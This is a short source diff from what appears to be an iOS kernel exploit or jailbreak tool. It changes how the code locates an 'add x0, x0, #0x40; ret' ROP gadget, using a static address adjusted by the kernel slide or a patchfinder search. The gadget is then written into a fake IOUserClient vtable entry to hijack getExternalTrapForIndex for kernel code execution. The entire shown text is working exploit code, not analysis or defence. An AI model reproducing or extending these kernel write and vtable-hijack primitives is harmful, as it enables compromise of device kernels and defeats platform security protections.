@@ -5,6 +5,10 @@
 #include "exploit_additions.h"
 #include "patchfinder64.h"
 #include "offsetof.h"
+#include "kernel_slide.h"
+#include "parameters.h"
+
+extern struct pf_kernel kernel_image;
 
 mach_port_t prepare_user_client(void) {
     kern_return_t err;
@@ -82,7 +86,13 @@ void init_kexecute(void) {
     // Now the userclient port we have will look into our fake user client rather than the old one
     
     // Replace IOUserClient::getExternalTrapForIndex with our ROP gadget (add x0, x0, #0x40; ret;)
-    wk64(fake_vtable+8*0xB7, find_add_x0_x0_0x40_ret());
+    uint64_t add_x0_x0_0x40_ret = STATIC_ADDRESS(add_x0_x0_0x40_ret);
+    if (add_x0_x0_0x40_ret) {
+        add_x0_x0_0x40_ret += kernel_slide;
+    } else {
+        add_x0_x0_0x40_ret = find_add_x0_x0_0x40_ret(&kernel_image);
+    }
+    wk64(fake_vtable+8*0xB7, add_x0_x0_0x40_ret);
     
     printf("Wrote the `add x0, x0, #0x40; ret;` gadget over getExternalTrapForIndex");
     